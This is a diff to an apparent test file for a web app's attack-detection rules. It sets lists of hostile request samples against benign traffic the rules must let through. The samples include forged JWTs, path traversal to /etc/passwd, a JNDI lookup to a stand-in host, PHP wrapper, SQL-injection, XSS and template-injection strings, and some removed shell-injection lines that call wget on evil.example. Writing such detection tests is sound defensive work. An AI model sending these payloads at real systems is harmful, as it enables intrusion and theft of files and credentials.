@@ -61,6 +61,12 @@ class RoutesController {
     return 'in';
   }
 
+  @Public()
+  @Post('login-of-its-own')
+  loginOfItsOwn() {
+    throw new UnauthorizedException();
+  }
+
   @Honeypot()
   @Get('admin.php')
   decoy() {
@@ -100,6 +106,17 @@ async function forgeries(app: INestApplication, count: number): Promise<string[]
   return tokens;
 }
 
+/** Tokens of this app whose key nobody knows. */
+async function strangeTokens(app: INestApplication, count: number): Promise<string[]> {
+  const { authorization } = await userWith(app, ['parcels:read']);
+  const [head, body] = authorization.slice('Bearer '.length).split('.');
+  const header = JSON.parse(Buffer.from(head as string, 'base64url').toString());
+  return Array.from({ length: count }, (_, index) => {
+    const strange = json({ ...header, kid: `of-before-${index}` });
+    return `${strange}.${body}.${'A'.repeat(86)}`;
+  });
+}
+
 const json = (value: unknown) => Buffer.from(JSON.stringify(value)).toString('base64url');
 const claims = { iss: ownTokens.issuer.url, aud: ownTokens.audience, sub: 'root', exp: 4_102_444_800 };
 const confused = (alg: string) => `${json({ alg, typ: 'at+jwt' })}.${json(claims)}.${'A'.repeat(43)}`;
@@ -114,63 +131,55 @@ const ATTACKS: readonly (readonly [rule: string, what: string, traffic: TrafficM
     () => bearers(Array.from('0123456789', (digit) => `x${digit}`)),
   ],
   ['algorithm-attack', 'two tokens signed by nobody', () => bearers([confused('none'), confused('HS256')])],
-  ['path-probing', 'twenty paths that nobody has', () => times(20, (index) => `GET /backup${index}`)],
-  ['id-probing', 'a hundred ids that nobody has', () => times(100, (index) => `GET /parcels/${index}`)],
   [
-    'scanner-path',
-    'three files of other systems',
-    () => [['GET /.env'], ['GET /wp-login.php'], ['GET /cgi-bin/luci']],
+    'dead-credentials',
+    'a hundred tokens of keys that nobody knows',
+    (app) => strangeTokens(app, 100).then((tokens) => bearers(tokens)),
+  ],
+  ['path-probing', 'a hundred paths that nobody has', () => times(100, (index) => `GET /page${index}`)],
+  ['id-probing', 'three hundred ids that nobody has', () => times(300, (index) => `GET /parcels/${index}`)],
+  ['id-probing', 'the same in a query', () => times(300, (index) => `GET /parcels/1?of=${index}`)],
+  ['telltale-path', 'two files with secrets', () => [['GET /.env'], ['GET /.git/config']]],
+  [
+    'telltale-path',
+    'two paths of known holes, in disguise',
+    () => [['GET /%2561ws/../.aws;x/credentials'], ['POST /./cgi-bin//luci']],
   ],
   [
-    'scanner-path',
-    'three files that were left behind',
-    () => [['GET /.git/config'], ['GET /a/b.sql'], ['GET /%2eaws/credentials']],
+    'foreign-file',
+    'what other software is made of',
+    () => [...times(10, (index) => `GET /shop${index}.php`), ...times(10, (index) => `GET /${index}.aspx`)],
   ],
   [
     'scanner-agent',
     'two requests of a scanner',
     () => [
       ['GET /public', { 'user-agent': 'sqlmap/1.8#stable' }],
-      ['GET /public', { 'user-agent': 'Mozilla/5.0 (compatible; Nuclei - Open-source)' }],
+      ['GET /public', { 'user-agent': 'Fuzz Faster U Fool v2.1.0' }],
+    ],
+  ],
+  ['certain-payload', 'a way out of the folder', () => [['GET /cgi-bin/.%2e/.%2e/.%2e/etc/passwd']]],
+  [
+    'certain-payload',
+    'a look-up in a header',
+    () => [['GET /public', { referer: '${jndi:ldap://e.example/a}' }]],
+  ],
+  ['certain-payload', 'a wrapper of PHP', () => [['GET /?file=php://filter/resource=index']]],
+  [
+    'likely-payload',
+    'four injections, answered 404',
+    () => [
+      ["GET /parcels/a?q='%20or%20'1'='1"],
+      ['GET /parcels/a?q=1+or/**/1%3D1'],
+      ['GET /parcels/b?r=%3Cscript%3Ealert(1)'],
+      ['GET /parcels/b?s=%7B%7B7*7%7D%7D'],
     ],
   ],
   [
-    'attack-shape',
-    'three ways out of a folder',
-    () => [
-      ['GET /search?f=../../etc/x'],
-      ['GET /search?f=%252e%252e%252f%252e%252e%252fx'],
-      ['GET /a/..%5c..%5cwin.ini'],
-    ],
+    'refused-attempts',
+    'a hundred guesses that only the handler knows of',
+    () => times(100, () => 'POST /login-of-its-own'),
   ],
-  [
-    'attack-shape',
-    'three injections',
-    () => [
-      ["GET /search?q='%20or%20'1'='1"],
-      ['GET /search?q=1+union+select+null'],
-      ['GET /search?q=%24%7Bjndi:ldap://x%7D'],
-    ],
-  ],
-  [
-    'attack-shape',
-    'three more of them',
-    () => [
-      ['GET /search?q=%3Cscript%3Ealert(1)'],
-      ['GET /search?f=x%00.png'],
-      ['GET /search?q=%7B%7B7*7%7D%7D'],
-    ],
-  ],
-  [
-    'attack-shape',
-    'three shells',
-    () => [
-      ['GET /search?q=x;cat%20/etc/hosts'],
-      ['GET /search?q=x%7Cwhoami'],
-      ['GET /search?q=x%60wget%20evil.example%60'],
-    ],
-  ],
-  ['refusals', 'fifty requests without a credential', () => times(50, () => 'GET /user')],
   ['honeypot', 'one touch of a decoy', () => [['GET /admin.php']]],
 ];
 
@@ -213,7 +222,7 @@ const HONEST: readonly (readonly [rule: string, what: string, traffic: TrafficMa
   ['path-probing', 'a dozen old links', () => times(12, (index) => `GET /old/${index}`)],
   ['id-probing', 'a page of things that are gone', () => times(60, (index) => `GET /parcels/gone${index}`)],
   [
-    'scanner-path',
+    'telltale-path',
     'what the standards put under .well-known',
     () => times(12, (index) => `GET /.well-known/thing${index}`),
   ],
@@ -230,7 +239,7 @@ const HONEST: readonly (readonly [rule: string, what: string, traffic: TrafficMa
       ].map((agent) => ['GET /public', { 'user-agent': agent }] as const),
   ],
   [
-    'attack-shape',
+    'likely-payload',
     'what people write',
     () =>
       [
@@ -254,10 +263,10 @@ const HONEST: readonly (readonly [rule: string, what: string, traffic: TrafficMa
         'python|bash',
       ].map((text) => [`GET /search?q=${text}`] as const),
   ],
-  ['refusals', 'forty requests without a credential', () => times(40, () => 'GET /user')],
-  ['scanner-path', 'an old bookmark', () => times(10, () => 'GET /index.php')],
+  ['refused-attempts', 'two hundred requests without a credential', () => times(200, () => 'GET /user')],
+  ['foreign-file', 'an old bookmark', () => times(10, () => 'GET /index.php')],
   [
-    'refusals',
+    'dead-credentials',
     'a page whose token has ended, and which asks for many things at once',
     async (app) => {
       const clock = Date.now();
